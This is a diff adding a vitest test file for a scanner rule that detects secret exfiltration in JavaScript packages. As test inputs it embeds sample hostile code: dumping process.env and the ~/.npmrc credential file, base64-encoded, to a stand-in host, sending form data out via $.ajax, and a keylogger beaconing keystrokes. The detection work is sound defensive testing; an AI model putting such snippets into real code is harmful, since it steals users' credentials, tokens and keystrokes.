@@ -1,0 +1,52 @@
+import { describe, expect, it } from 'vitest';
+import { jsFindings, ruleFindings } from '../helpers.js';
+
+describe('JS-010 secret-exfiltration-flow', () => {
+  it('follows process.env through JSON.stringify and a variable to req.write', async () => {
+    const code = `const https = require('https');
+      const data = JSON.stringify({ env: process.env });
+      const req = https.request({ hostname: 'x.invalid', method: 'POST' });
+      req.write(data); req.end();`;
+    const f = await ruleFindings('JS-010', code);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.severity).toBe('critical');
+    const flow = f[0]!.evidence?.flow as Array<{ step: string; line: number }>;
+    expect(flow[0]).toMatchObject({ step: 'source', line: 2 });
+    expect(flow.at(-1)).toMatchObject({ step: 'sink', line: 4 });
+  });
+  it('follows a credential file through a local helper function and encoding', async () => {
+    const code = `const fs = require('fs'), os = require('os'), path = require('path');
+      function grab() { return fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); }
+      const enc = Buffer.from(grab()).toString('base64');
+      fetch('https://x.invalid/c?d=' + enc);`;
+    const f = await ruleFindings('JS-010', code);
+    expect(f[0]?.evidence?.sources).toContain('.npmrc');
+  });
+  it('follows browser form data to $.ajax', async () => {
+    const f = await ruleFindings(
+      'JS-010',
+      "$.ajax({ url: 'https://x.invalid/?k=' + $('form').serialize() })",
+    );
+    expect(f).toHaveLength(1);
+  });
+  it('treats keystrokes as browser data', async () => {
+    const code = `let keys = ''; document.addEventListener('keydown', e => { keys += e.key; });
+      setInterval(() => navigator.sendBeacon('https://x.invalid/k', keys), 5000);`;
+    expect(await ruleFindings('JS-010', code)).toHaveLength(1);
+  });
+  it('tracks exports across the package own modules', async () => {
+    const f = await jsFindings({
+      'index.js':
+        "const info = require('./collect'); require('https').request({ host: 'x.invalid' }).end(JSON.stringify(info));",
+      'collect.js': 'module.exports = { env: process.env };',
+    });
+    const flow = f.find((x) => x.ruleId === 'JS-010');
+    expect(flow?.file).toBe('index.js');
+    expect(flow?.message).toContain('collect.js');
+  });
+  it('does not fire for npm config variables or values that never reach the network', async () => {
+    const code = `const proxy = process.env.npm_config_proxy; fetch('https://registry.invalid/x', { agent: proxy });
+      const t = process.env.GITHUB_TOKEN; console.log(t ? 'token set' : 'no token');`;
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+});
